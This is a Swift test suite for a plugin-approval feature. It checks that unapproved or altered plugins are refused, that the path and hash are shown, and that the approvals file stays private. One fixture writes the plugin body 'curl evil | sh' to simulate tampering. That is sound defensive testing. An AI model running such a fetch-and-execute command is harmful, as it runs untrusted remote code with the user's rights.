// SPDX-License-Identifier: MIT
import Foundation
import HimatCore
import HimatTestSupport
import Testing

@testable import HimatK8s

@Suite struct PluginConsentTests {
    private let terminal = Terminal(isInputInteractive: true, isOutputInteractive: true, isErrorInteractive: true)

    private func require(
        _ program: PluginProgram, in shop: Workshop, allowed: [String] = [], terminal: Terminal = Terminal(),
        answer: String? = nil
    ) async throws -> String {
        let words = BufferOutput()
        let asked: (@Sendable () async -> String?)? = terminal.isInputInteractive ? { @Sendable in answer } : nil
        let runtime = Runtime.test(
            variables: shop.environment.variables, home: shop.folder.path, currentDirectory: shop.folder.path,
            terminal: terminal, errors: words, answer: asked)
        try await PluginConsent(runtime: runtime, allowed: allowed).require([program])
        return words.text
    }

    @Test func whatNobodyApprovedIsRefusedWherePeopleCannotBeAsked() async throws {
        let shop = try Workshop()
        let program = try PluginProgram(try shop.write("hello", "true"))
        let error = try await failure { _ = try await require(program, in: shop) }
        #expect(error.code == .preflightRefused)
        #expect(error.details.contains("path    \(program.path)"))
        #expect(error.details.contains("sha256  \(program.hash)"))
        #expect(error.nextStep?.contains("--allow-plugin hello") == true)
    }

    @Test func aPersonSeesPathAndHashAndIsAskedOnce() async throws {
        let shop = try Workshop()
        let program = try PluginProgram(try shop.write("hello", "true"))
        let words = try await require(program, in: shop, terminal: terminal, answer: "yes")
        #expect(words.contains(program.path) && words.contains(program.hash))
        #expect(words.contains("with all your rights"))
        #expect(try await require(program, in: shop).isEmpty)
    }

    @Test(arguments: [nil, "", "y", "no", "yes please"])
    func anyOtherAnswerIsNo(_ answer: String?) async throws {
        let shop = try Workshop()
        let program = try PluginProgram(try shop.write("hello", "true"))
        _ = try await failure { _ = try await require(program, in: shop, terminal: terminal, answer: answer) }
        _ = try await failure { _ = try await require(program, in: shop) }
    }

    @Test func aChangedProgramIsAskedAboutAgain() async throws {
        let shop = try Workshop()
        _ = try await require(PluginProgram(shop.write("hello", "true")), in: shop, allowed: ["hello"])
        let changed = try PluginProgram(try shop.write("hello", "curl evil | sh"))
        let error = try await failure { _ = try await require(changed, in: shop) }
        #expect(error.message.contains("has changed since it was approved"))
    }

    @Test func theSameProgramElsewhereIsAnotherOne() async throws {
        let shop = try Workshop()
        _ = try await require(PluginProgram(shop.write("hello", "true")), in: shop, allowed: ["hello"])
        let copy = PluginFile(name: "hello", path: try shop.write("copy", "true").path)
        _ = try await failure { _ = try await require(try PluginProgram(copy), in: shop) }
    }

    @Test(arguments: ["hello", "./hello"])
    func theFlagTakesNameAndPath(_ word: String) async throws {
        let shop = try Workshop()
        #expect(try await require(PluginProgram(shop.write("hello", "true")), in: shop, allowed: [word]).isEmpty)
    }

    @Test func theFlagRefusesWhatIsNotConfigured() async throws {
        let shop = try Workshop()
        let program = try PluginProgram(try shop.write("hello", "true"))
        let error = try await failure { _ = try await require(program, in: shop, allowed: ["helo"]) }
        #expect(error.code == .usage)
        #expect(error.nextStep == "choose among hello")
    }

    @Test func approvalsAreTheUsersOwnFile() async throws {
        let shop = try Workshop()
        let program = try PluginProgram(try shop.write("hello", "true"))
        _ = try await require(program, in: shop, allowed: ["hello"])
        let path = shop.folder.file("memory/approved-plugins.json")
        let mode = try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? NSNumber
        #expect(mode?.intValue == 0o600)
        try FileManager.default.setAttributes([.posixPermissions: 0o666], ofItemAtPath: path)
        _ = try await failure { _ = try await require(program, in: shop) }
    }
}
